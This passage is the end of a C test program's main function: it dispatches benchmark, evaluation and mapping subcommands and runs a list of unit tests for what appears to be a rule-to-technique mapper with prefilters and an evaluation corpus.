        return run_bench(argc > 2 ? atof(argv[2]) : 2.0, argc > 3 ? argv[3] : NULL);
    if (argc > 1 && strcmp(argv[1], "eval") == 0)
        return run_eval(argc > 2 ? argv[2] : test_path("corpus/mapper.tsv"));
    if (argc > 1 && strcmp(argv[1], "map") == 0)
        return run_map();
    test_table();
    test_shipped_rules();
    test_mapping();
    test_unknown_technique();
    test_bad_syntax();
    test_bundle();
    test_prefilters();
    test_eval_small();
    test_eval_corpus();
    CHECK_DONE();
}
